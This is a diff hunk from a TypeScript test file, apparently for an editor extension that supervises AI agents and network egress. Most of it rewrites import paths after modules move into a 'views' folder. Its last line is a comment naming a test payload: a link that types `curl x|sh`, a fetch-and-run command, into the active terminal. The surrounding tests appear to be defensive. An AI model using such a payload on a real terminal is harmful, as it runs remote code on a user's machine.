@@ -15,18 +15,18 @@ import * as agentState from '../../extension/src/ui/agentState';
 import { NudgeGate, type AgentStatus, AgentStateTracker } from '../../extension/src/ui/agentState';
 import { AgentStreamRecognizer } from '../../extension/src/ui/agentStream';
 import * as confirmations from '../../extension/src/ui/confirmations';
-import * as model from '../../extension/src/ui/model';
-import type { ContainerSummary, DriftFinding } from '../../extension/src/ui/model';
+import * as model from '../../extension/src/ui/views/model';
+import type { ContainerSummary, DriftFinding } from '../../extension/src/ui/views/model';
 import { inline, plainItem, plainText, quoted, SINK_LINES, SINKS, type Sink } from '../../extension/src/ui/plainText';
-import * as items from '../../extension/src/ui/tree/items';
-import { peerNodes, proximoNodes, workspacesNodes, type TreeNode } from '../../extension/src/ui/tree/render';
+import * as items from '../../extension/src/ui/views/treeItems';
+import { peerNodes, proximoNodes, workspacesNodes, type TreeNode } from '../../extension/src/ui/views/treeNodes';
 import * as worktreeItems from '../../extension/src/ui/tree/worktreeItems';
 import * as approvalText from '../../extension/src/ui/approvalText';
 import * as agentTimeline from '../../extension/src/ui/agentTimeline';
 import * as egressText from '../../extension/src/ui/egressText';
 import type { EgressLogEntry, EgressQuestion, EgressSummary } from '../../extension/src/backend/api/egress';
 import type { AgentEvent, ApprovalRequest } from '../../extension/src/bridge/route';
-import type { ToolboxState } from '../../extension/src/ui/refresh';
+import type { ToolboxState } from '../../extension/src/ui/views/refreshManager';
 import { containerSummary } from '../support/summary';
 
 /** The payload of issue 25's attack 2: a link that types `curl x|sh` into the active terminal. */
